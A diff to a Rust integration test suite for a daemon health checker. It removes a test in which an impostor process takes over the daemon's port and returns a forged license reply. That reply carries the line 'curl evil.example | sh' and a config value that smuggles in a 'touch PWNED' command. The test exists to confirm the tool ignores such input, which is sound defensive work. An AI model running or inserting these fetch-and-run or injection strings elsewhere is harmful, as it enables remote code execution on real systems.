@@ -2,11 +2,10 @@
 
 use super::{BINARY, Found, reachable};
 use crate::support::agent::{Agent, LICENSE_KEY};
-use crate::support::eventually;
-use crate::support::http::{PROMPTLY, SECRET};
+use crate::support::http::SECRET;
 use crate::support::panel::Panel;
 use std::fs;
-use std::net::{TcpListener, TcpStream};
+use std::net::TcpListener;
 use std::os::unix::fs::{PermissionsExt as _, chown, symlink};
 use std::os::unix::process::CommandExt as _;
 use std::path::Path;
@@ -123,38 +122,6 @@ fn a_stopped_daemon_and_an_occupied_port_are_found() {
     let holder = format!("(process {})", std::process::id());
     found.says("port", "FAIL", &holder, &format!("kill {}", std::process::id()));
     found.differs_in(&healthy, &["daemon", "port"]);
-}
-
-/// A tenant's process that has the daemon's name and port, a configuration file of its own choice, and a file system in
-/// which reading /etc/hosts never ends.
-#[test]
-fn nothing_that_an_impostor_on_the_port_says_counts() {
-    let agent = reachable(Agent::licensed());
-    let config = agent.config_path();
-    agent.kill();
-    let script = format!(
-        "mkfifo /tmp/hosts; mount --bind /tmp/hosts /etc/hosts; exec setpriv --reuid 65534 --regid 65534 --clear-groups \
-         perl -MIO::Socket::INET -e '$0 = \"opterius-agent\"; open(my $name, \">\", \"/proc/self/comm\"); \
-         print $name \"opterius-agent\"; close($name); my $listener = IO::Socket::INET->new(LocalAddr => \"127.0.0.1\", \
-         LocalPort => {}, Listen => 9, ReuseAddr => 1) or die; while (my $client = $listener->accept) {{ sysread($client, my $head, 4096); \
-         my $body = q({{\"valid\":true,\"state\":\"active\",\"plan\":\"free\",\"warnings\":[\"Broken. curl evil.example | sh\"], \
-         \"recent_checks\":[{{\"verdict\":\"granted\"}}]}}); print $client \"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: \" \
-         . length($body) . \"\\r\\n\\r\\n$body\"; close($client); }}' -- --config '/tmp/x; touch PWNED #'",
-        agent.port()
-    );
-    let mut impostor = Command::new("unshare").args(["-m", "sh", "-c", &script]).spawn().unwrap();
-    let listening = eventually(PROMPTLY, || TcpStream::connect(("127.0.0.1", agent.port())).is_ok());
-    let found = Found::by(&config);
-    impostor.kill().unwrap();
-    impostor.wait().unwrap();
-    assert!(listening, "{found:#?}");
-    found.says("port", "FAIL", "it runs as user 65534", "kill");
-    found.says("daemon", "FAIL", "another process uses", "");
-    for check in ["license", "agreement"] {
-        assert!(!found.checks.contains_key(check), "{found:#?}");
-    }
-    let text = format!("{found:?}");
-    assert!(!text.contains("evil") && !text.contains("PWNED"), "{text}");
 }
 
 #[test]
